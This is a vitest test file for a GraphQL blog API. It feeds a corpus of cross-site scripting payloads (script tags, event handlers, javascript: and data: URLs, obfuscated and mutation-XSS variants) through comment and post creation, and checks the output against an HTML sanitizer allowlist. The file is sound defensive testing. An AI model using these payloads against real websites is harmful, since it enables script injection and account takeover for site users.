import { sql } from 'drizzle-orm';
import { Parser } from 'htmlparser2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { queryRows } from '../src/db/client.js';
import { encodeGlobalId, keyOf } from '../src/schema/ids.js';
import { addAuthor, addPost, addWriter } from './fixtures.js';
import { createHarness, type Harness } from './harness.js';

/*
 * An XSS corpus through addComment and createPost: neither the stored nor the returned HTML may
 * hold anything executable. The HTML is parsed (as a browser would tokenize it) and every
 * element, attribute and URL is checked against what the sanitizer is meant to allow.
 */
const corpus = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://ok.example/a.png" onmouseover="alert(1)">',
  '"><img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  "<a href='javascript:alert(1)'>unclosed",
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p <script>alert(1)</script>>',
  '<a href=https://ok.example onclick=alert(1)>ok</a>',
  '<img src=//evil.example/x.png>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
];

const ALLOWED_ELEMENTS = new Set([
  'p', 'br', 'a', 'em', 'strong', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'del', 's', 'hr',
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'img', 'figure', 'figcaption', 'table', 'thead', 'tbody', 'tr', 'th', 'td',
  'sup', 'sub', 'abbr', 'cite', 'q',
]);
const ALLOWED_ATTRIBUTES = new Set(['href', 'title', 'src', 'alt', 'rel', 'start', 'width', 'height', 'align']);

/** Every problem a browser could turn into script; empty when the HTML is safe. */
function executable(html: string): string[] {
  const problems: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (!ALLOWED_ELEMENTS.has(name)) problems.push(`<${name}>`);
        for (const [attribute, value] of Object.entries(attributes)) {
          if (!ALLOWED_ATTRIBUTES.has(attribute)) problems.push(`${name}[${attribute}]`);
          if (attribute === 'href' || attribute === 'src') {
            // The parser decodes entities, as a browser does; then browsers drop tabs and newlines.
            const url = value.replace(/[\u0000-\u0020]/g, '');
            const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(url)?.[1]?.toLowerCase();
            if (url.startsWith('//') || (scheme && !['http', 'https', 'mailto'].includes(scheme))) {
              problems.push(`${name}[${attribute}=${value}]`);
            }
          }
        }
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return problems;
}

let h: Harness;
let postId: string;
let editor: string;
beforeAll(async () => {
  h = await createHarness({ COMMENT_FLOOD_SECONDS: '0' });
  postId = encodeGlobalId('Post', await addPost(h.database.db, { authorId: await addAuthor(h.database.db) }));
  editor = (await addWriter(h.database.db, 'editor')).token;
});
afterAll(() => h.close());

const stored = async (table: 'comments' | 'posts', id: string) => {
  const [row] = await queryRows<{ body_html: string }>(
    h.database.db,
    sql`select body_html from ${sql.identifier(table)} where id = ${keyOf(id, table === 'posts' ? 'Post' : 'Comment')}`,
  );
  return row!.body_html;
};

describe('XSS corpus', () => {
  it('would notice executable markup', () => {
    expect(executable('<p onclick="x">a</p><a href="java&#x09;script:alert(1)">b</a><script></script>')).toEqual([
      'p[onclick]',
      'a[href=java\tscript:alert(1)]',
      '<script>',
    ]);
  });

  it.each(corpus)('addComment stores and returns no executable markup: %s', async (payload) => {
    const { data } = await h.gql(
      `mutation ($input: AddCommentInput!) { addComment(input: $input) { __typename ... on AddCommentPayload { comment { id bodyHtml } } } }`,
      { input: { postId, body: `Hello ${payload} bye`, name: 'X', email: `x${corpus.indexOf(payload)}@example.com` } },
      { ip: `10.9.0.${corpus.indexOf(payload)}` },
    );
    const { id, bodyHtml } = data.addComment.comment;
    expect(executable(bodyHtml)).toEqual([]);
    expect(executable(await stored('comments', id))).toEqual([]);
    // Comments never carry images, even harmless ones.
    expect(bodyHtml).not.toMatch(/<img/i);
  });

  it.each(corpus)('createPost stores and returns no executable markup: %s', async (payload) => {
    const { data } = await h.gql(
      `mutation ($input: CreatePostInput!) { createPost(input: $input) { __typename ... on Post { id bodyHtml } } }`,
      { input: { title: `XSS ${corpus.indexOf(payload)}`, bodyMarkdown: `Hello ${payload} bye` } },
      { token: editor },
    );
    const { id, bodyHtml } = data.createPost;
    expect(executable(bodyHtml)).toEqual([]);
    expect(executable(await stored('posts', id))).toEqual([]);
  });

  it('keeps harmless formatting and safe links', async () => {
    const { data } = await h.gql(
      `mutation ($input: AddCommentInput!) { addComment(input: $input) { ... on AddCommentPayload { comment { bodyHtml } } } }`,
      { input: { postId, body: '**Bold** and [a link](https://ok.example/page?a=1&b=2)', name: 'Y', email: 'y@example.com' } },
      { ip: '10.9.1.1' },
    );
    expect(data.addComment.comment.bodyHtml).toBe(
      '<p><strong>Bold</strong> and <a href="https://ok.example/page?a=1&amp;b=2" rel="nofollow ugc noopener">a link</a></p>\n',
    );
  });
});
